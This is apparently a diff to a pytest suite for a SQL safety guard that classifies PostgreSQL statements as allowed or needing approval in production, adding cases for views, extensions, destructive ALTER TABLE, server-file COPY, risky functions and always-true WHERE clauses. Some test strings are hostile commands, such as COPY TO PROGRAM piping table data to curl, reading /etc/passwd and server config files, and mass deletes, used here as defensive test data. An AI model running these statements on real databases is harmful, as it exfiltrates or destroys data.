@@ -32,6 +32,7 @@ ALTER = (APPROVAL, "destructive-alter-needs-approval-in-prod")
 SETTINGS = (APPROVAL, "session-settings-need-approval-in-prod")
 FUNCTIONS = (APPROVAL, "dangerous-functions-need-approval-in-prod")
 COPY = (APPROVAL, "copy-program-needs-approval-in-prod")
+FILE = (APPROVAL, "copy-server-file-needs-approval-in-prod")
 OPAQUE = (APPROVAL, "opaque-needs-approval-in-prod")
 ALLOW = ("allow", None)
 
@@ -59,6 +60,16 @@ ALLOW = ("allow", None)
         ("alter function f() security definer", CODE),
         ("alter function f() owner to attacker", CODE),
         ("alter procedure p() set search_path = evil", CODE),
+        # views stand in for tables; extensions install code
+        ("create or replace view active as select * from orders where not archived", CODE),
+        ("create view v as select 1", CODE),
+        ("create temp view orders as select * from archive.orders", CODE),
+        ("alter view v set (security_barrier = false)", CODE),
+        ("create materialized view mv as select count(*) from orders", CODE),
+        ("alter materialized view mv rename to mv2", CODE),
+        ("create extension pgcrypto", CODE),
+        ("create extension if not exists plpython3u", CODE),
+        ("alter extension pgcrypto update", CODE),
         # destructive ALTER TABLE
         ("alter table orders drop column note", ALTER),
         ("ALTER TABLE orders DROP note CASCADE", ALTER),
@@ -70,10 +81,31 @@ ALLOW = ("allow", None)
         ("alter table orders rename constraint c to d", ALTER),
         ("alter table if exists only orders rename note to remark", ALTER),
         ("alter table orders set schema archive", ALTER),
+        ("alter table orders alter column note type varchar(20)", ALTER),  # truncates? refuses?
+        ("alter table orders alter total type numeric(10, 0)", ALTER),  # rounds every value
+        ("alter table orders drop constraint orders_total_check", ALTER),
+        ("alter table orders disable trigger audit", ALTER),
+        ("alter table orders disable trigger all", ALTER),
+        ("alter table orders disable trigger user", ALTER),
+        ("alter table orders enable replica trigger audit", ALTER),  # off for normal sessions
+        ("alter table orders disable rule soft_delete", ALTER),
+        ("alter table orders enable row level security", ALTER),
+        ("alter table orders disable row level security", ALTER),
+        ("alter table orders force row level security", ALTER),
+        ("alter table orders no force row level security", ALTER),
+        ("alter table orders set unlogged", ALTER),
+        ("alter table orders detach partition orders_2020", ALTER),
+        ("alter table orders no inherit orders_base", ALTER),
+        ("alter table orders alter column c set expression as (a + b)", ALTER),
         # COPY ... PROGRAM
         ("copy orders to program 'curl -d @- http://x'", COPY),
         ("copy orders from program 'cat /etc/passwd'", COPY),
         ("COPY (SELECT * FROM orders) TO PROGRAM 'gzip > /tmp/o.gz'", COPY),
+        # COPY to or from a file on the server
+        ("copy orders to '/tmp/orders.csv'", FILE),
+        ("copy orders from '/var/lib/postgresql/data/postgresql.auto.conf'", FILE),
+        ("COPY (SELECT * FROM customers) TO '/tmp/c.csv' WITH (FORMAT csv)", FILE),
+        ("copy orders (id, total) from '/tmp/o.csv' csv header", FILE),
         # dangerous functions
         ("select lo_unlink(16401)", FUNCTIONS),
         ("select pg_catalog.lo_unlink(oid) from pg_largeobject_metadata", FUNCTIONS),
@@ -83,6 +115,14 @@ ALLOW = ("allow", None)
         ("select lo_export(1, '/tmp/x')", FUNCTIONS),
         ("select pg_stat_reset()", FUNCTIONS),
         ("select * from dblink('host=x', 'select 1') as t(a int)", FUNCTIONS),
+        ("select setval('orders_id_seq', 1)", FUNCTIONS),
+        ("select pg_catalog.setval('orders_id_seq', 1, false)", FUNCTIONS),
+        ("select pg_clear_relation_stats('public', 'orders')", FUNCTIONS),
+        ("select pg_clear_attribute_stats('public', 'orders', 'id', false)", FUNCTIONS),
+        ("select pg_restore_relation_stats('schemaname', 'public', 'relname', 'orders')",
+         FUNCTIONS),
+        ("select pg_restore_attribute_stats('schemaname', 'public', 'relname', 'orders')",
+         FUNCTIONS),
         # settings that change what later statements mean, or who runs them
         ("set search_path = evil, public", SETTINGS),
         ("SET LOCAL search_path TO evil", SETTINGS),
@@ -117,7 +157,13 @@ ALLOW = ("allow", None)
         ("merge into orders o using s on o.id = s.id when matched then update set paid = s.p",
          ALLOW),
         ("alter table orders add column note text", ALLOW),
-        ("alter table orders alter column note type varchar(200)", ALLOW),
+        ("alter table orders alter column note set default 'x'", ALLOW),
+        ("alter table orders add constraint c check (total >= 0) not valid", ALLOW),
+        ("alter table orders enable trigger audit", ALLOW),
+        ("select nextval('orders_id_seq')", ALLOW),
+        ("copy orders to stdout", ALLOW),
+        ("copy orders from stdin with (format csv)", ALLOW),
+        ("create temp table scratch (id int)", ALLOW),
         ("alter index orders_pkey rename to orders_pk", ALLOW),
         ("create table t (id int)", ALLOW),
         ("create index i on orders (id)", ALLOW),
@@ -170,6 +216,24 @@ def test_prod(backend: str, sql: str, expected: tuple[str, str | None]) -> None:
         ("prepare q as delete from orders", "delete-needs-where"),
         ("prepare q as update orders set paid = true where 1 = 1", "trivial-where"),
         ("copy (delete from orders returning *) to stdout", "delete-needs-where"),
+        # always true through arithmetic, functions, subqueries of the row's own value
+        ("delete from orders where id = id + 0", "trivial-where"),
+        ("delete from orders where id = greatest(id, id)", "trivial-where"),
+        ("delete from orders where id in (select id from orders)", "trivial-where"),
+        ("delete from orders where id = any(array[id])", "trivial-where"),
+        ("delete from orders where exists (select 1 from orders o2 where o2.id = orders.id)",
+         "trivial-where"),
+        ("delete from orders using (select id from orders) s where s.id = orders.id",
+         "trivial-where"),
+        ("merge into orders t using (select * from orders) s on s.id = t.id "
+         "when matched then delete", "trivial-where"),
+        ("delete from orders where id is not null", "trivial-where"),
+        ("delete from orders where coalesce(id, 0) >= 0", "trivial-where"),
+        ("update orders set paid = true where (id > 0) is not false", "trivial-where"),
+        ("delete from orders where ctid > '(0,0)'", "trivial-where"),
+        ("delete from orders where tableoid > 0", "trivial-where"),
+        ("insert into orders select * from orders on conflict (id) do update set paid = true",
+         "trivial-where"),
     ],
 )  # fmt: skip
 @pytest.mark.parametrize("env", ["dev", "prod"])
@@ -186,6 +250,9 @@ def test_upserts_are_not_blocked_by_the_where_rules(backend: str) -> None:
         "insert into orders values (1) on conflict (id) do update set paid = true",
         'INSERT INTO "t" ("a") VALUES (%s) ON CONFLICT ("a") DO UPDATE SET "b" = EXCLUDED."b"',
         "insert into orders select * from staging on conflict do nothing",
+        "insert into orders select * from staging on conflict (id) do update set paid = true",
+        "insert into orders select * from orders where id = 5 "
+        "on conflict (id) do update set paid = true",
     ]:
         assert decided(sql, "dev", backend) == ALLOW
 
@@ -202,6 +269,11 @@ def test_dev_keeps_its_freedom(backend: str) -> None:
         "set search_path = x",
         "select lo_unlink(1)",
         "copy t to program 'x'",
+        "copy t to '/tmp/t.csv'",
+        "create view v as select 1",
+        "create extension pgcrypto",
+        "alter table orders disable trigger all",
+        "select setval('s', 1)",
         "do $$ begin end $$",
     ]:
         assert decided(sql, "dev", backend) == ALLOW
